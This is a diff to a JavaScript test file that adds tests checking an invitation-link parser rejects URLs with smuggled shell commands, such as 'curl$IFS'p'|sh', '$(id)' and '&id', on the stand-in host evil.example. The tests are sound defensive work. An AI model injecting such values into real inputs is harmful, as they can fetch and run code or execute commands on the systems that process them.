@@ -106,6 +106,11 @@ for (const [given, server, code] of [
   test(`an invitation to a class stands in “${given}”`, () => expect(invitationIn(given)).toStrictEqual({ server, code }));
 }
 
+for (const server of ["https://evil.example/x;curl$IFS'p'|sh;", "https://evil;id;.example", "https://evil.example/$(id)", "https://evil.example/a&id"]) {
+  const given = `${server}/join?code=KAWA-YAN5`;
+  test(`no line to run is made of “${given}”`, () => expect(invitationIn(given)).toStrictEqual({ server: "", code: given }));
+}
+
 test("a server is the same with a slash behind it and in capitals", () => {
   expect(isSameServer("https://School.example/", "https://school.example")).toBe(true);
   expect(isSameServer("https://school.example", "")).toBe(false);
